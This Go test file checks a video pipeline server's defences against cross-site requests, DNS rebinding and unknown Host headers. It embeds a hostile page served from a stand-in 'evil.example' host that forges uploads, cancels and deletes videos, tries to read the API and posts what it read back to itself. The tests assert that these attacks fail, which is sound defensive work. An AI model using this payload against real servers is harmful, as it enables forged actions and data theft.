package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/reelmill/reelmill/pipeline/client"
	"github.com/reelmill/reelmill/pipeline/pipelinetest"
)

// evilPage attacks the server at the address in its query: with a form, with requests of scripts, and by
// reading. Then it tells its own server what it could read.
const evilPage = `<!doctype html><iframe name=target></iframe>
<form method=post enctype=multipart/form-data target=target><input type=file name=file></form>
<script>
const server = new URLSearchParams(location.search).get('server'), id = new URLSearchParams(location.search).get('id');
const form = document.forms[0], files = new DataTransfer(), seen = {};
files.items.add(new File(['words'], 'evil.mp4'));
form.file.files = files.files;
form.action = server + '/v1/videos';
const tried = (name, what) => what.then(a => a.text()).then(t => seen[name] = t, e => seen[name] = 'error');
(async () => {
  await new Promise(done => { document.querySelector('iframe').onload = done; form.submit(); });
  const body = new FormData(form);
  await tried('blind', fetch(server + '/v1/videos', {method: 'POST', mode: 'no-cors', body}));
  await tried('upload', fetch(server + '/v1/videos', {method: 'POST', body}));
  await tried('cancel', fetch(server + '/v1/videos/' + id + '/cancel', {method: 'POST', mode: 'no-cors'}));
  await tried('delete', fetch(server + '/v1/videos/' + id, {method: 'DELETE'}));
  await tried('read', fetch(server + '/v1/videos'));
  await tried('play', fetch(server + '/play/' + id + '/nothing.mp4'));
  await fetch('/done', {method: 'POST', body: JSON.stringify(seen)});
})();
</script>`

// TestOtherSitesInABrowser lets a real browser open a page of another site that attacks the server, and then
// the server under a name of that site, as after DNS rebinding.
func TestOtherSitesInABrowser(t *testing.T) {
	p := startServe(t, binary, t.TempDir(), "--no-workers")
	words := filepath.Join(t.TempDir(), "words.mp4")
	check(t, os.WriteFile(words, []byte("words, and no video"), 0o600))
	kept, err := p.client().Upload(t.Context(), client.Upload{Path: words})
	check(t, err)
	seen := attack(t, p.url, kept.ID)
	for name, text := range seen { // only /play is open for all pages
		if name == "play" != strings.Contains(text, "not_found") || name != "play" && text != "error" {
			t.Errorf("%s: the page reads %q", name, text)
		}
	}
	if len(seen) != 6 {
		t.Errorf("the page tried %v", seen)
	}
	page, err := p.client().List(t.Context(), client.ListOptions{})
	check(t, err)
	if len(page.Data) != 1 || page.Data[0].ID != kept.ID || page.Data[0].Status != "queued" {
		t.Errorf("the server now has %+v", page.Data)
	}
	port := p.url[strings.LastIndex(p.url, ":"):]
	cmd, _ := chromium(t, "--dump-dom", "http://evil.example"+port+"/v1/videos")
	out, err := cmd.Output()
	check(t, err)
	if !bytes.Contains(out, []byte("host_unknown")) || bytes.Contains(out, []byte(kept.ID)) {
		t.Errorf("under another name the server shows %s", out)
	}
}

// attack opens evilPage from evil.example in a browser, and returns what the page could read.
func attack(t *testing.T, server, id string) map[string]string {
	t.Helper()
	done := make(chan map[string]string, 1)
	pages := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/done" {
			w.Header().Set("Content-Type", "text/html")
			_, _ = io.WriteString(w, evilPage)
			return
		}
		var seen map[string]string
		if err := json.NewDecoder(r.Body).Decode(&seen); err != nil {
			t.Error(err)
		}
		done <- seen
	}))
	t.Cleanup(pages.Close)
	at, err := url.Parse(pages.URL)
	check(t, err)
	cmd, stderr := chromium(t, "--remote-debugging-port=0", // without it, the browser ends too early
		"http://evil.example:"+at.Port()+"/?"+url.Values{"server": {server}, "id": {id}}.Encode())
	check(t, cmd.Start())
	t.Cleanup(func() {
		_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		_ = cmd.Wait() // it was killed
		if t.Failed() {
			t.Logf("the browser said %s", stderr)
		}
	})
	return pipelinetest.Receive(t, "the report of the page", done)
}

// chromium returns a browser for which evil.example is this machine, and what it says.
func chromium(t *testing.T, args ...string) (*exec.Cmd, *pipelinetest.Buffer) {
	t.Helper()
	home, stderr := t.TempDir(), &pipelinetest.Buffer{}
	cmd := exec.CommandContext(pipelinetest.Context(t), "chromium", slices.Concat([]string{
		"--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
		"--disable-background-networking", "--disable-component-update", "--disable-sync",
		"--user-data-dir=" + filepath.Join(home, "profile"), "--host-resolver-rules=MAP evil.example 127.0.0.1",
	}, args)...)
	cmd.Env = os.Environ()
	for _, name := range []string{"HOME", "TMPDIR", "XDG_CONFIG_HOME", "XDG_CACHE_HOME"} {
		cmd.Env = append(cmd.Env, name+"="+home)
	}
	cmd.Stderr, cmd.WaitDelay = stderr, 10*time.Second
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	return cmd, stderr
}

// ask sends a request with any Host, and returns the status line and the answer.
func ask(t *testing.T, address, method, path, host string) (string, string) {
	t.Helper()
	c, err := net.Dial("tcp", strings.TrimPrefix(address, "http://"))
	check(t, err)
	defer c.Close()
	_, err = fmt.Fprintf(c, "%s %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", method, path, host)
	check(t, err)
	answer, err := http.ReadResponse(bufio.NewReader(c), nil)
	check(t, err)
	body, err := io.ReadAll(answer.Body)
	check(t, errors.Join(err, answer.Body.Close()))
	return answer.Status, string(body)
}

// TestHostsOfAServer checks the names that flags allow, with both listeners.
func TestHostsOfAServer(t *testing.T) {
	metrics := pipelinetest.FreeAddress(t)
	t.Setenv("REELMILL_ALLOW_HOST", "mill.lan,mill")
	p := startServe(t, binary, t.TempDir(), "--no-workers", "--metrics-listen", metrics,
		"--public-url", "https://video.example.com/sub", "--auth", "off")
	for host, known := range map[string]bool{
		"mill.lan": true, "mill:80": true, "video.example.com": true, "localhost:1": true, "10.1.2.3": true,
		"evil.example": false, "example.com": false,
	} {
		for _, at := range []struct{ address, path string }{
			{p.url, "/v1/videos"}, {p.url, "/healthz"}, {p.url, "/metrics"}, {metrics, "/metrics"},
		} {
			if at.address == metrics && host == "video.example.com" {
				continue // nobody scrapes there by that name
			}
			status, body := ask(t, at.address, "GET", at.path, host)
			if got := status == "200 OK"; got != known || !known && !strings.Contains(body, "host_unknown") {
				t.Errorf("%s%s as %s: %s %.200s", at.address, at.path, host, status, body)
			}
		}
	}
	p.stop(t)
}

// TestAnyHostIsWarnedOf checks that the server warns of --allow-host '*'.
func TestAnyHostIsWarnedOf(t *testing.T) {
	p := startServe(t, binary, t.TempDir(), "--no-workers", "--allow-host", "*")
	if status, body := ask(t, p.url, "GET", "/v1/videos", "evil.example"); status != "200 OK" {
		t.Errorf("%s %s", status, body)
	}
	p.stop(t)
	if log := p.stderr.String(); !strings.Contains(log, "level=WARN") || !strings.Contains(log, "--allow-host '*'") {
		t.Errorf("the log is %s", log)
	}
}

// TestAccessFlags checks where the names and origins of a server come from.
func TestAccessFlags(t *testing.T) {
	file := filepath.Join(t.TempDir(), "config.yaml")
	check(t, os.WriteFile(file, []byte("allow_host: [a.lan, b.lan]\nallow_origin: https://a.example\n"+
		"play_origin: [https://a.example, https://b.example]\n"), 0o600))
	for name, c := range map[string]struct {
		args                 []string
		hosts, origins, play []string
	}{
		"defaults":      {nil, nil, nil, []string{"*"}},
		"file":          {[]string{"--config", file}, []string{"a.lan", "b.lan"}, []string{"https://a.example"}, []string{"https://a.example", "https://b.example"}},
		"flags":         {[]string{"--allow-host", "c,d", "--allow-host=e", "--play-origin=none"}, []string{"c", "d", "e"}, nil, []string{"none"}},
		"listen":        {[]string{"--listen", "mill.lan:80", "--metrics-listen", "scrape.lan:81"}, []string{"mill.lan", "scrape.lan"}, nil, []string{"*"}},
		"listen to all": {[]string{"--listen", ":80", "--metrics-listen", "[::]:81"}, nil, nil, []string{"*"}},
	} {
		got := parse(t, append([]string{"serve"}, c.args...)).Serve.access()
		if !slices.Equal(got.Hosts, c.hosts) || !slices.Equal(got.Origins, c.origins) || !slices.Equal(got.PlayOrigins, c.play) {
			t.Errorf("%s: %+v", name, got)
		}
	}
}
